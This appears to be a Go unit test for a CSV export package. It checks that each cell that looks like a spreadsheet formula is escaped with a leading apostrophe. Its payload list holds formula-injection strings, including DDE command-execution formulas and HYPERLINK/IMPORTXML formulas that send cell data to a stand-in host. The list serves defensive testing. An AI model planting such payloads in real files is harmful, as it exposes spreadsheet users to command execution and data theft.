package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/zapis-clinic/zapis/core/sheet"
)

func attacks() []string {
	return []string{
		`=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!D2`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
		"＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1+1", "\x00=1+1", "\ufeff=1+1", `=HYPERLINK("http://evil.example?"&A1,"x")`, `=IMPORTXML("http://evil.example","//a")`,
	}
}

func TestV15NoCellOfATableIsAFormula(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	table, err := sheet.NewCSV(&out)
	require.NoError(t, err)
	for _, text := range attacks() {
		require.True(t, strings.HasPrefix(sheet.Cell(text), "'"), "%q", text)
		require.NoError(t, table.Row(text, "Иванова; \"Анна\"", int64(-5), struct{ A string }{text}))
	}
	require.NoError(t, table.Flush())
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(attacks()))
	for _, row := range rows {
		require.Equal(t, byte('\''), row[0][0], "%q", row)
		require.Equal(t, []string{`Иванова; "Анна"`, "-5", ""}, row[1:])
	}
	require.Equal(t, "Иванова-Петрова", sheet.Cell("Иванова-Петрова"))
}
